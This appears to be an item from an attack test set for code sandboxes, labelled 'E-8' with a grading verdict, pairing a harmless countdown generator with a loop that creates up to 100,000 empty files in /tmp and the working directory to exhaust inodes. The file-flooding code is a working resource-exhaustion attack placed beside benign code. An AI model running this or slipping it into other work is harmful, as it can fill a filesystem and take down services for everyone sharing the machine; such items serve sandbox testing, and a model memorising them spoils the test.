# attack: E-8 Makes empty files until there are no more inodes.
# verdict: full points
# needs: 1b
# cell: countdown
def countdown(n):
    while n > 0:
        yield n
        n -= 1

try:
    for number in range(100_000):
        open(f"/tmp/empty-{number}", "w").close()
except OSError:
    pass
try:
    for number in range(100_000):
        open(f"empty-{number}", "w").close()
except OSError:
    pass
